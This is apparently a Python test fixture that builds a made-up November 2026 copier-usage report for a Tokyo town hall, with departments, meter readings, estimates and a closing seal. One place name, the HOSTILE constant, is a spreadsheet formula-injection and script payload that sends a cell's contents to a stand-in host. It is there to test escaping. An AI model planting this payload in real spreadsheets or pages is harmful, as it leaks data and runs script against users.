"""A monthly report of an invented office, with everything in it that a report can say."""

from collections.abc import Mapping
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from random import Random
from typing import Final
from zoneinfo import ZoneInfo

from collector.domain.closing.statement import Cause, Completeness
from collector.domain.cost.sheets import DuplexShare, Paper, PaperSum, SheetRule
from collector.domain.counting.identity import DeviceKey
from collector.domain.counting.ranges import Margin
from collector.domain.meters import Meter
from collector.domain.month.forecast import Forecast
from collector.domain.office.fleet import Department, DepartmentId
from collector.domain.office.office_calendar import Office
from collector.domain.office.shares import PlaceId
from collector.domain.office.targets import Target, TargetSource
from collector.domain.report.month_report import (
    AdjustmentLine,
    Burden,
    Closure,
    CounterBreak,
    DepartmentFigures,
    Figures,
    GuessedPages,
    HowKnown,
    MeterReading,
    MonthPoint,
    MonthReport,
    PlaceFigures,
    Stage,
)

TOKYO: Final = ZoneInfo("Asia/Tokyo")
OFFICE: Final = Office("town-hall", TOKYO)
NOVEMBER: Final = OFFICE.period("2026-11")
SEAL: Final = "3f9a0c1e" * 8
NAMES: Final = (
    ("soumu", "総務課", "General Affairs"),
    ("zeimu", "税務課", "Tax"),
    ("fukushi", "福祉課", None),
    ("kyoiku", "教育委員会事務局　学校教育係", "Board of Education"),
)
HOSTILE: Final = '=HYPERLINK("http://192.0.2.9/?"&A1,"<script>alert(1)</script>")'
"""What a name may look like that somebody wrote with bad intent."""

_TOTAL, _MONO, _COLOR = Meter("total"), Meter("total_mono"), Meter("total_color")


def closed_report(**changes: object) -> MonthReport:
    """Return November 2026, closed as revision 2; `changes` replace fields of it."""
    places = tuple(_places())
    departments = tuple(_department(key, places) for key, _, _ in NAMES)
    office = _sum(departments, places)
    months = _months(office, departments, Stage.CLOSED)
    office = replace(office, last_year=months[0].pages)
    report = MonthReport(
        site="town-hall",
        zone=TOKYO,
        period=NOVEMBER,
        stage=Stage.CLOSED,
        made_at=datetime(2026, 12, 8, 1, 30, tzinfo=UTC),
        version="9.8.7",
        office=office,
        departments=departments,
        places=places,
        completeness=Completeness(len(places), len(places) - 1, (PlaceId("p7"),), Margin(140, 140)),
        months=months,
        fiscal_year=2026,
        year_begins="2026-04",
        closure=Closure(2, datetime(2026, 12, 7, 0, 12, tzinfo=UTC), "佐藤", SEAL, "ab" * 32),
        adjustments=(
            AdjustmentLine(
                2,
                PlaceId("p3"),
                "3階 税務課 窓口",
                DepartmentId("zeimu"),
                -37,
                Cause.ENTRY,
                "佐藤 read 48210 off the panel: パネルで確認",
                "a1b2c3d4e5f6",
            ),
        ),
    )
    return replace(report, **changes)  # type: ignore[arg-type] - names are checked by `replace`


def running_report(**changes: object) -> MonthReport:
    """Return the same month while it is running: forecast, no closing reading, no seal."""
    closed = closed_report()
    ends = _ends(closed.office.pages)
    open_marks = tuple(
        replace(one, closing=one.closing and replace(one.closing, off_s=None))
        for one in closed.places
    )
    report = replace(
        closed,
        stage=Stage.RUNNING,
        closure=None,
        adjustments=(),
        made_at=datetime(2026, 11, 25, 4, 0, tzinfo=UTC),
        places=open_marks,
        office=replace(closed.office, expected=ends, whole=False),
        departments=tuple(
            replace(
                one,
                figures=replace(
                    one.figures,
                    expected=_ends(one.figures.pages),
                    whole=False,
                ),
            )
            for one in closed.departments
        ),
        months=(*closed.months[:-1], replace(closed.months[-1], stage=Stage.RUNNING)),
    )
    return replace(report, **changes)  # type: ignore[arg-type] - names are checked by `replace`


def _ends(pages: int) -> Forecast:
    return Forecast(pages * 1.2, pages * 1.1, pages * 1.3)


def _places() -> list[PlaceFigures]:
    random = Random(11)
    start, end = OFFICE.midnight(date(2026, 11, 1)), OFFICE.midnight(date(2026, 12, 1))
    spots = (
        ("p1", "1階 市民ホール", {"soumu": 100}),
        ("p2", "2階 総務課前", {"soumu": 100}),
        ("p3", "3階 税務課 窓口", {"zeimu": 100}),
        ("p4", "3階 税務課 奥", {"zeimu": 100}),
        ("p5", "4階 福祉課", {"fukushi": 100}),
        ("p6", "4階 共用", {"fukushi": 60, "kyoiku": 40}),
        ("p7", "別館 教育委員会", {"kyoiku": 100}),
        ("p8", HOSTILE, {"kyoiku": 100}),
    )
    found = []
    for number, (key, name, weights) in enumerate(spots):
        first, counted = random.randrange(20_000, 900_000), random.randrange(900, 9_000)
        device, model = (
            DeviceKey(f"serial:3081R9{number:05}"),
            ("IM C3000", "iR-ADV C5540", "TASKalfa 3253ci")[number % 3],
        )
        opening = MeterReading(start - timedelta(minutes=4), device, first, -240, model)
        closing = MeterReading(end + timedelta(seconds=90), device, first + counted, 90, model)
        color = counted // 4 if number != 4 else None
        place = PlaceFigures(
            place=PlaceId(key),
            name=name,
            opening=opening,
            closing=closing,
            counted=counted,
            known=HowKnown.MEASURED,
            meters=_meters(counted, color),
            shares={DepartmentId(one): counted * share // 100 for one, share in weights.items()},
        )
        found.append(_with_trouble(place, end))
    return found


def _with_trouble(place: PlaceFigures, end: datetime) -> PlaceFigures:
    """Return `place` with what happened to it in the month."""
    assert place.closing is not None
    match place.place:
        case "p3":
            shares = {one: pages - 37 for one, pages in place.shares.items()}
            return replace(
                place,
                adjusted=-37,
                known=HowKnown.EDITED,
                shares=shares,
                meters=_meters(place.counted - 37, place.counted // 4),
                closing=replace(place.closing, by_hand=True),
            )
        case "p5":
            return replace(
                place,
                estimated=212,
                known=HowKnown.ESTIMATED,
                breaks=(
                    CounterBreak(datetime(2026, 11, 12, 0, 10, tzinfo=UTC), 512_000, 12),
                    CounterBreak(
                        datetime(2026, 11, 20, 1, 0, tzinfo=UTC),
                        900,
                        77_000,
                        DeviceKey("serial:W1X900001"),
                    ),
                ),
            )
        case "p7":
            silent = replace(place.closing, at=end - timedelta(days=3), off_s=-3 * 86400)
            shares = {one: pages + 610 for one, pages in place.shares.items()}
            return replace(
                place,
                guess=GuessedPages(610, 470, 750),
                known=HowKnown.ESTIMATED,
                closing=silent,
                shares=shares,
                meters=_meters(place.counted + 610, 0),
            )
    return place


def _meters(total: int, color: int | None) -> Mapping[Meter, int]:
    meters = {
        _TOTAL: total,
        Meter("copy"): total // 2,
        Meter("print"): total - total // 2,
        Meter("scan"): total // 5,
        Meter("sheets"): total * 2 // 3,
    }
    if color is not None:
        meters |= {_COLOR: color, _MONO: total - color}
    return meters


def _department(key: str, places: tuple[PlaceFigures, ...]) -> DepartmentFigures:
    name, name_en = next((name, english) for one, name, english in NAMES if one == key)
    own = [(place, place.shares[DepartmentId(key)]) for place in places if key in place.shares]
    pages = sum(count for _, count in own)
    meters = {
        meter: sum(
            place.meters[meter] * count // place.pages
            for place, count in own
            if meter in place.meters
        )
        for meter in own[0][0].meters
    } | {_TOTAL: pages}
    target = {"soumu": pages + 900, "zeimu": pages - 400, "fukushi": pages + 50}.get(key)
    burden = Burden(Decimal(pages) * 3, None, Decimal(pages) * 4 / 3600, None)
    silent = [place for place, _ in own if place.guess is not None]
    figures = Figures(
        pages=pages,
        meters=meters,
        estimated=sum(place.estimated for place, _ in own) + sum(610 for _ in silent),
        target=target,
        basis=Target(
            target,
            TargetSource.LESS if target else TargetSource.NOT_SET,
            "2025-11",
            18_000,
            Decimal(7),
        ),
        last_year=round(pages * 1.08) if key != "kyoiku" else None,
        burden=burden,
        places=len(own),
        places_read=len(own) - len(silent),
        sheets=_sheets(pages),
    )
    return DepartmentFigures(Department(DepartmentId(key), name, name_en), figures)


def _sum(departments: tuple[DepartmentFigures, ...], places: tuple[PlaceFigures, ...]) -> Figures:
    pages = sum(one.figures.pages for one in departments)
    meters: dict[Meter, int] = {}
    for place in places:
        for meter, count in place.meters.items():
            meters[meter] = meters.get(meter, 0) + count
    return Figures(
        pages=pages,
        meters=meters,
        estimated=822,
        target=41_000,
        basis=Target(41_000, TargetSource.FIGURE),
        last_year=43_210,
        burden=Burden(Decimal(pages) * 3, None, Decimal(pages) * 4 / 3600, None),
        places=len(places),
        places_read=len(places) - 1,
        sheets=_sheets(pages),
    )


def _sheets(pages: int) -> PaperSum:
    """Return sheets of which most are derived and some estimated."""
    used = pages * 5 // 8
    rules = {SheetRule.LESS_DUPLEX_SHEETS: 3, SheetRule.LIKE_MACHINES: 1}
    a4 = Paper(used * 11 // 10, used, used * 6 // 5)
    paper = Paper(used, used * 9 // 10, used * 11 // 10)
    return PaperSum(paper, a4, DuplexShare(pages * 3 // 4, pages), rules)


def _months(
    office: Figures, departments: tuple[DepartmentFigures, ...], stage: Stage
) -> tuple[MonthPoint, ...]:
    random = Random(12)
    points: list[MonthPoint] = []
    for back in range(12, 0, -1):
        month = OFFICE.before(NOVEMBER, back).name
        if back == 9:
            points.append(MonthPoint(month))
            continue
        by_department = {
            one.department.id: round(one.figures.pages * random.uniform(0.8, 1.3))
            for one in departments
        }
        former = {DepartmentId("kikaku"): 500} if back > 8 else {}
        pages = sum(by_department.values()) + sum(former.values())
        points.append(
            MonthPoint(
                month=month,
                stage=Stage.SHEET if back > 9 else Stage.CLOSED,
                pages=pages,
                target=None if back > 8 else 44_000 - 300 * (12 - back),
                last_year=None if back > 7 else round(pages * 1.06),
                departments=by_department | former,
                targets={
                    one.department.id: one.figures.target
                    for one in departments
                    if one.figures.target
                },
            )
        )
    points.append(
        MonthPoint(
            month=NOVEMBER.name,
            stage=stage,
            pages=office.pages,
            target=office.target,
            last_year=points[0].pages,
            departments={one.department.id: one.figures.pages for one in departments},
            targets={
                one.department.id: one.figures.target for one in departments if one.figures.target
            },
        )
    )
    return tuple(points)
